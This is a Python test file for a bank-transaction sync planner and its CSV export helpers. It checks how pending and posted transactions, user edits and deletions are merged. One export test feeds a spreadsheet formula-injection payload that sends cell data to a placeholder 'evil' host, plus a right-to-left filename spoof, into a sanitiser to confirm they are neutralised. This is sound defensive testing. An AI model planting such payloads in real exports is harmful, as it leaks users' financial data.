"""Pure change planning: what a sync writes, without a database."""

from __future__ import annotations

from services.banking_views import status_message
from services.export import decimal_amount, safe_cell
from services.sync_apply import ADDED, MODIFIED, NO_EDITS, REMOVED, Edits, Existing, Staged, plan_chunk, referenced_ids
from services.sync_types import explain


def vals(name: str = "SHOP", amount: int = -500, pending: bool = False, pending_id: str | None = None) -> tuple:
    return (
        "acc",
        amount,
        "USD",
        None,
        "2025-03-01",
        None,
        name,
        None,
        pending,
        pending_id,
        "FOOD",
        "FOOD_OTHER",
        "online",
    )


EDITED = Edits(category_override="Gifts", note="for mum")


def test_added_rows_are_upserted_and_counted() -> None:
    plan = plan_chunk([Staged(0, ADDED, "a", vals()), Staged(1, ADDED, "b", vals())], {})
    assert set(plan.upserts) == {"a", "b"} and plan.added == 2 and not plan.history and not plan.deletes


def test_replaying_the_same_page_changes_nothing_and_records_no_history() -> None:
    existing = {"a": Existing(vals())}
    plan = plan_chunk([Staged(0, ADDED, "a", vals())], existing)
    assert plan.history == [] and plan.upserts["a"][1] == NO_EDITS


def test_ids_differing_only_in_case_are_different_transactions() -> None:
    plan = plan_chunk([Staged(0, ADDED, "AbC", vals()), Staged(1, ADDED, "abc", vals(amount=-1))], {})
    assert set(plan.upserts) == {"AbC", "abc"}


def test_modified_keeps_user_edits_and_records_old_and_new() -> None:
    existing = {"a": Existing(vals(name="OLD", amount=-500), EDITED)}
    plan = plan_chunk([Staged(0, MODIFIED, "a", vals(name="NEW", amount=-700))], existing)
    assert plan.upserts["a"][1] == EDITED
    assert ("a", "name", "OLD", "NEW") in plan.history and ("a", "amount_minor", "-500", "-700") in plan.history


def test_posted_twin_takes_the_pending_edits_and_the_pending_row_goes() -> None:
    existing = {"p": Existing(vals(pending=True), EDITED)}
    chunk = [Staged(0, ADDED, "q", vals(pending_id="p")), Staged(1, REMOVED, "p")]
    assert referenced_ids(chunk) == {"p", "q"}
    plan = plan_chunk(chunk, existing)
    assert plan.upserts["q"][1] == EDITED and "p" in plan.deletes and ("p", "q") in plan.history_moves
    assert not plan.tombstones


def test_removal_first_keeps_edits_until_the_posted_twin_arrives_in_a_later_sync() -> None:
    first = plan_chunk([Staged(0, REMOVED, "p")], {"p": Existing(vals(pending=True), EDITED)})
    assert first.deletes == ["p"] and first.tombstones == [("p", EDITED)]
    later = plan_chunk([Staged(0, ADDED, "q", vals(pending_id="p"))], {}, {"p": EDITED})
    assert later.upserts["q"][1] == EDITED and later.tombstones_used == ["p"]


def test_unedited_pending_removal_is_remembered_so_a_later_twin_takes_its_history() -> None:
    plan = plan_chunk([Staged(0, REMOVED, "p")], {"p": Existing(vals(pending=True))})
    assert plan.deletes == ["p"] and plan.tombstones == [("p", NO_EDITS)] and plan.removed == 1


def test_posted_twin_after_an_unedited_removal_in_one_chunk_moves_the_history_and_is_not_news() -> None:
    chunk = [Staged(0, REMOVED, "p"), Staged(1, ADDED, "q", vals(pending_id="p"))]
    plan = plan_chunk(chunk, {"p": Existing(vals(pending=True))})
    assert ("p", "q") in plan.history_moves and plan.new == {}
    assert plan.tombstones == [] and plan.tombstones_used == []  # saved and used up in one chunk: never written
    assert (plan.added, plan.removed) == (1, 1)


def test_removing_an_unknown_id_is_harmless_and_not_counted() -> None:
    plan = plan_chunk([Staged(0, REMOVED, "ghost")], {})
    assert plan.deletes == [] and plan.removed == 0


def test_the_same_id_added_twice_counts_once_and_is_news_once() -> None:
    plan = plan_chunk([Staged(0, ADDED, "a", vals()), Staged(1, ADDED, "a", vals())], {})
    assert (plan.added, plan.modified) == (1, 0) and list(plan.new) == ["a"]


def test_counts_are_what_changed_in_the_ledger() -> None:
    existing = {"a": Existing(vals()), "b": Existing(vals())}
    chunk = [
        Staged(0, MODIFIED, "a", vals()),
        Staged(1, MODIFIED, "b", vals(name="NEW")),
        Staged(2, MODIFIED, "c", vals()),
    ]
    plan = plan_chunk(chunk, existing)
    assert (plan.added, plan.modified, plan.removed) == (1, 1, 0) and list(plan.new) == ["c"]
    born_and_gone = plan_chunk([Staged(0, ADDED, "d", vals(pending=True)), Staged(1, REMOVED, "d")], {})
    assert (born_and_gone.added, born_and_gone.removed) == (0, 0) and born_and_gone.new == {}


def test_a_posted_row_replacing_a_ledger_or_saved_pending_row_is_not_news() -> None:
    in_ledger = plan_chunk([Staged(0, ADDED, "q", vals(pending_id="p"))], {"p": Existing(vals(pending=True))})
    saved = plan_chunk([Staged(0, ADDED, "q", vals(pending_id="p"))], {}, {"p": NO_EDITS})
    assert in_ledger.new == {} and saved.new == {} and (in_ledger.added, in_ledger.removed) == (1, 1)
    same_run = plan_chunk([Staged(0, ADDED, "p", vals(pending=True)), Staged(1, ADDED, "q", vals(pending_id="p"))], {})
    assert list(same_run.new) == ["q"] and (same_run.added, same_run.removed) == (1, 0)


def test_a_pending_row_whose_posted_twin_was_set_aside_is_kept() -> None:
    existing = {"p": Existing(vals(pending=True), EDITED)}
    plan = plan_chunk([Staged(0, REMOVED, "p")], existing, keep={"p"})
    assert plan.deletes == [] and plan.tombstones == [] and plan.removed == 0


def test_removed_and_sent_again_keeps_the_row_and_its_edits_as_a_modification() -> None:
    existing = {"a": Existing(vals(name="X", pending=True), EDITED)}
    plan = plan_chunk([Staged(0, REMOVED, "a"), Staged(1, ADDED, "a", vals(pending=True))], existing)
    assert plan.upserts["a"][1] == EDITED and plan.tombstones == [] and plan.new == {}
    assert (plan.added, plan.modified, plan.removed) == (0, 1, 0)


def test_a_pending_row_removed_in_an_earlier_sync_and_sent_again_comes_back_with_its_edits() -> None:
    plan = plan_chunk([Staged(0, ADDED, "p", vals(pending=True))], {}, {"p": EDITED})
    assert plan.upserts["p"][1] == EDITED and plan.tombstones_used == ["p"] and plan.new == {} and plan.added == 1
    again = plan_chunk([Staged(0, ADDED, "p", vals(pending=True)), Staged(1, REMOVED, "p")], {}, {"p": EDITED})
    assert again.tombstones_used == ["p"] and again.tombstones == [("p", EDITED)]  # the store deletes, then saves
    assert (again.added, again.removed) == (0, 0)


def test_a_posted_row_removed_in_an_earlier_sync_and_sent_again_comes_back_with_its_edits_and_is_not_news() -> None:
    first = plan_chunk([Staged(0, REMOVED, "a")], {"a": Existing(vals(), EDITED)})
    assert first.deletes == ["a"] and first.tombstones == [("a", EDITED)] and first.removed == 1
    later = plan_chunk([Staged(0, ADDED, "a", vals())], {}, {"a": EDITED})
    assert later.upserts["a"][1] == EDITED and later.tombstones_used == ["a"] and later.new == {}
    assert later.added == 1


def test_a_row_brought_and_removed_in_one_chunk_is_not_remembered_so_its_return_is_news() -> None:
    """The user never saw it (nor could edit it): when it, or a posted twin of it, comes later, that is news."""
    for pending in (False, True):
        plan = plan_chunk([Staged(0, ADDED, "a", vals(pending=pending)), Staged(1, REMOVED, "a")], {})
        assert plan.tombstones == [] and plan.new == {} and (plan.added, plan.removed) == (0, 0)
    carried = plan_chunk(
        [Staged(0, ADDED, "q", vals(pending_id="p")), Staged(1, REMOVED, "q")],
        {"p": Existing(vals(pending=True), EDITED)},
    )
    assert carried.tombstones == [("q", EDITED)]  # a posted twin that took a known hold's edits keeps them


def test_removed_then_sent_again_in_one_chunk_keeps_the_later_change() -> None:
    plan = plan_chunk([Staged(0, REMOVED, "a"), Staged(1, ADDED, "a", vals())], {"a": Existing(vals(name="X"))})
    assert "a" in plan.upserts and "a" not in plan.deletes


def test_posted_row_already_edited_keeps_its_own_edits() -> None:
    own = Edits(note="mine")
    existing = {"p": Existing(vals(pending=True), EDITED), "q": Existing(vals(pending_id="p"), own)}
    plan = plan_chunk([Staged(0, MODIFIED, "q", vals(pending_id="p", amount=-9))], existing)
    assert plan.upserts["q"][1] == own and plan.carry == []


def test_export_cells_neutralise_formulas_and_strip_controls() -> None:
    assert safe_cell('=HYPERLINK("http://evil/?"&A1,"Refund")').startswith("'=")
    assert safe_cell("+1") == "'+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("PayPal \u202egnp.exe") == "PayPal gnp.exe" and safe_cell("ACME\x00\x07") == "ACME"
    assert safe_cell("Uber Eats 🍔") == "Uber Eats 🍔" and safe_cell(None) == ""
    # full-width and small forms some spreadsheets read as the ASCII sign
    for cell in ("＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1", "﹢1", " ％1"):
        assert safe_cell(cell) == "'" + cell, cell
    assert safe_cell("Ｃafé ＝ 1") == "Ｃafé ＝ 1"  # only a leading sign starts a formula


def test_export_amounts_are_exact_decimals_with_the_statement_sign() -> None:
    assert decimal_amount(-1250, "USD") == "-12.50"
    assert decimal_amount(3, "USD") == "0.03"
    assert decimal_amount(-1200, "JPY") == "-1200"
    assert decimal_amount(-1, "KWD") == "-0.001"


def test_failures_are_explained_with_a_fix() -> None:
    what, fix = explain("ITEM_LOGIN_REQUIRED")
    assert "sign in again" in what and "Repair" in fix
    assert "slow down" in explain("TRANSACTIONS_SYNC_LIMIT")[0]
    assert explain(None) == ("", "")


def test_a_bank_that_wants_more_than_a_sign_in_is_told_the_same_on_the_card_and_in_the_sync_history() -> None:
    """A locked login or a password to reset at the bank: the sync history and the Accounts card name the same
    first step at the bank, and neither says "sign in again", which would lead into the same refusal."""
    for code, step in [("ITEM_LOCKED", "Unlock it at your bank"), ("PASSWORD_RESET_REQUIRED", "Reset it")]:
        what, fix = explain(code)
        card = status_message("login_required", code)
        assert card.startswith(what) and fix.startswith(f"{step}, then press “Repair connection”"), (what, fix)
        assert card.endswith(f"{step}, then use “Repair connection”.") and "sign in again" not in what + card
